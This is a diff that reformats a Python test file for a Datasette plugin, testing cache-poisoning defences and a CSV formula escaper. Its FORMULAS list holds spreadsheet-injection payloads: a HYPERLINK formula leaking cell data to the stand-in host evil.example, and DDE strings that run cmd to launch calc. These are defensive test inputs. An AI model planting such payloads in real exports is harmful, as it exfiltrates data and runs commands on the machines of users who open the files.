@@ -17,8 +17,16 @@ from kz_rule_of_law.web.plugin.cache import ResponseCache
 from kz_rule_of_law.web.plugin.csvsafe import FormulaEscaper
 
 DB = "kz-rule-of-law"
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2", '-"quoted"']
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1,2",
+    '-"quoted"',
+]
 NUMBERS = [-5, -1.5, 2.5e-07]
 
 
@@ -29,15 +37,22 @@ def fetch(datasette: Datasette, path: str, **headers: str) -> httpx.Response:
 
 def sql_literal(value: str) -> str:
     """`value` as an SQL string literal (a carriage return through char(), as it cannot be typed)."""
-    return " || ".join("char(13)" if part == "\r" else "'" + part.replace("'", "''") + "'"
-                       for part in value.replace("\r", "\0\r\0").split("\0") if part) or "''"
+    return (
+        " || ".join(
+            "char(13)" if part == "\r" else "'" + part.replace("'", "''") + "'"
+            for part in value.replace("\r", "\0\r\0").split("\0")
+            if part
+        )
+        or "''"
+    )
 
 
 # Another host
 
 
-@pytest.mark.parametrize("path", [f"/{DB}/organizations.json?_size=2",
-                                  f"/{DB}/project_organizations?_facet=iati_role&_size=2"])
+@pytest.mark.parametrize(
+    "path", [f"/{DB}/organizations.json?_size=2", f"/{DB}/project_organizations?_facet=iati_role&_size=2"]
+)
 def test_a_page_asked_for_another_host_is_never_served_to_others(datasette, path):
     poisoned = fetch(datasette, path, host="evil.example", **{"cache-control": "no-cache"})
     assert poisoned.status_code == 200
@@ -55,7 +70,9 @@ def test_a_page_asked_over_another_scheme_is_kept_apart(datasette):
     app = datasette.app()  # one app, one cache
 
     async def over(scheme: str) -> str:
-        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=f"{scheme}://localhost") as client:
+        async with httpx.AsyncClient(
+            transport=httpx.ASGITransport(app=app), base_url=f"{scheme}://localhost"
+        ) as client:
             return (await client.get(path)).json()["next_url"]
 
     assert asyncio.run(over("https")).startswith("https://localhost/")
@@ -67,8 +84,13 @@ def test_a_page_asked_over_another_scheme_is_kept_apart(datasette):
 
 async def echo_page(scope, receive, send) -> None:
     """A page that holds its URL once, as a Datasette page with one link to itself would."""
-    await send({"type": "http.response.start", "status": 200,
-                "headers": [(b"content-type", b"text/html; charset=utf-8"), (b"cache-control", b"max-age=5")]})
+    await send(
+        {
+            "type": "http.response.start",
+            "status": 200,
+            "headers": [(b"content-type", b"text/html; charset=utf-8"), (b"cache-control", b"max-age=5")],
+        }
+    )
     await send({"type": "http.response.body", "body": b"<a href='?%s'>next</a>" % scope["query_string"]})
 
 
@@ -84,9 +106,15 @@ def flood(cache: ResponseCache, count: int, url_bytes: int) -> None:
     async def run():
         for i in range(count):
             query = b"q=%d&pad=%s" % (i, b"x" * url_bytes)
-            scope = {"type": "http", "method": "GET", "scheme": "http", "path": f"/{DB}/organizations",
-                     "raw_path": f"/{DB}/organizations".encode(), "query_string": query,
-                     "headers": [(b"host", b"localhost")]}
+            scope = {
+                "type": "http",
+                "method": "GET",
+                "scheme": "http",
+                "path": f"/{DB}/organizations",
+                "raw_path": f"/{DB}/organizations".encode(),
+                "query_string": query,
+                "headers": [(b"host", b"localhost")],
+            }
             await cache.serve(scope, receive, send, echo_page)
 
     asyncio.run(run())
@@ -130,7 +158,9 @@ def test_a_table_csv_without_formulas_is_datasettes_own(get, csv_rows):
     response = get(f"/{DB}/organizations.csv", _size="max")
     assert response.status_code == 200
     served = list(csv.DictReader(io.StringIO(response.text, newline="")))
-    assert [row["organization_id"] for row in served] == sorted(row["organization_id"] for row in csv_rows("organizations"))
+    assert [row["organization_id"] for row in served] == sorted(
+        row["organization_id"] for row in csv_rows("organizations")
+    )
     assert not any(cell.startswith("'") for row in served for cell in row.values())
 
 
@@ -149,11 +179,14 @@ def test_escaping_does_not_depend_on_where_the_stream_is_cut(cut):
     writer.writerow([*FORMULAS, *NUMBERS, "a,=b", "plain", "-" + "1" * 60, "", "-"])
     data = text.getvalue().encode()
     escaper = FormulaEscaper()
-    out = b"".join(escaper.feed(data[i:i + cut]) for i in range(0, len(data), cut)) + escaper.close()
+    out = b"".join(escaper.feed(data[i : i + cut]) for i in range(0, len(data), cut)) + escaper.close()
     header, row = list(csv.reader(io.StringIO(out.decode(), newline="")))
     assert header == ["'=h", "b"]
-    assert row == (["'" + value for value in FORMULAS] + [str(value) for value in NUMBERS]
-                   + ["a,=b", "plain", "'-" + "1" * 60, "", "'-"])
+    assert row == (
+        ["'" + value for value in FORMULAS]
+        + [str(value) for value in NUMBERS]
+        + ["a,=b", "plain", "'-" + "1" * 60, "", "'-"]
+    )
 
 
 # Paths through a file, the cache lifetime
